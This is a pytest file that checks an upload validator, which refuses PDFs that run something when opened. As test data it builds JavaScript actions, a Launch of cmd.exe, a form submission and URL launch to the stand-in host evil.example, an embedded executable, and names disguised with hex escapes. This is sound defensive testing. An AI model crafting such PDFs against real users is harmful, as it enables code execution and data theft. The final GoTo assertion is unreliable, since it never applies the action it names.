"""Evidence files (applications): a PDF by its header and trailer, or an image through image_check."""
from __future__ import annotations

import io

import pytest
from PIL import Image

from oxtom.core.uploads import CheckedDocument, CheckedImage, ImageRejected, document_check

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (10, 200, 10)).save(out, "PNG")
    return out.getvalue()


def test_a_pdf_is_kept_as_it_came_and_an_image_is_checked():
    assert document_check(PDF) == CheckedDocument(PDF)
    assert isinstance(document_check(io.BytesIO(png())), CheckedImage)


@pytest.mark.parametrize("data, message", [
    (b"", "empty"),
    (b"%PDF-1.4 cut off before its trailer", "JPG, PNG, WebP or PDF"),
    (b"<script>alert(1)</script>", "JPG, PNG, WebP or PDF"),
    (PDF + b"x" * 2048, "JPG, PNG, WebP or PDF"),  # the trailer must end the file
])
def test_anything_else_is_refused_with_a_message_for_the_person(data, message):
    with pytest.raises(ImageRejected, match=message):
        document_check(data)


def test_oversized_files_are_refused_before_reading_them_all():
    with pytest.raises(ImageRejected, match="smaller than 1MB"):
        document_check(PDF + b"0" * (1024 * 1024), max_bytes=1024 * 1024)


# --- PDFs that do something when opened ---------------------------------------------------------

def real_pdf(mutate=None) -> bytes:
    """A one-page PDF made by pypdf, after `mutate(writer)` adds whatever a test needs."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if mutate is not None:
        mutate(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: dict):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def mutate(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject(k): (NameObject(v) if v.startswith("/") else TextStringObject(v)) for k, v in action.items()})

    return mutate


def _document_script(writer):
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert('hello')")})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
        NameObject("/Names"): ArrayObject([TextStringObject("hello"), writer._add_object(script)])})})


def _page_action(writer):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("this.print()")})})


@pytest.mark.parametrize("mutate", [
    lambda w: _document_script(w),  # document-level script (the Names tree)
    _open_action({"/S": "/JavaScript", "/JS": "app.launchURL('https://evil.example')"}),
    _open_action({"/S": "/Launch", "/F": "cmd.exe"}),
    _open_action({"/S": "/SubmitForm", "/F": "https://evil.example/collect"}),
    _page_action,  # runs when page 1 opens
    lambda w: w.add_attachment("run.exe", b"MZ\x90\x00"),  # an embedded file
], ids=["document-script", "open-action-script", "launch", "submit-form", "page-open-script", "embedded-file"])
def test_a_pdf_that_runs_something_when_opened_is_refused(mutate):
    data = real_pdf(mutate)
    with pytest.raises(ImageRejected, match="contains scripts or actions"):
        document_check(data)


def test_names_spelt_with_hex_escapes_are_seen_through():
    data = real_pdf(_open_action({"/S": "/JavaScript", "/JS": "app.alert(1)"}))
    disguised = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/OpenAction", b"/Op#65nAction")
    assert b"/JavaScript" not in disguised
    with pytest.raises(ImageRejected, match="contains scripts or actions"):
        document_check(disguised)


def test_a_script_inside_a_compressed_stream_of_a_broken_pdf_is_found():
    import zlib

    hidden = zlib.compress(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")
    data = (b"%PDF-1.5\n1 0 obj<</Length " + str(len(hidden)).encode() + b"/Filter/FlateDecode>>stream\n"
            + hidden + b"\nendstream endobj\ntrailer<<>>\n%%EOF\n")
    with pytest.raises(ImageRejected, match="contains scripts or actions"):
        document_check(data)


def test_ordinary_pdfs_are_accepted_links_and_open_at_page_one_included():
    from pypdf.generic import ArrayObject, NameObject, NumberObject

    assert isinstance(document_check(real_pdf()), CheckedDocument)

    def fit_page_one(writer):  # what office suites write: open at page 1, fit the width
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/FitH"), NumberObject(842)])
        writer.add_uri(0, "https://www.oxfordshire.gov.uk/", [50, 50, 200, 80])

    assert isinstance(document_check(real_pdf(fit_page_one)), CheckedDocument)
    assert isinstance(document_check(_open_action({"/S": "/GoTo", "/D": "/first"}) and real_pdf()), CheckedDocument)
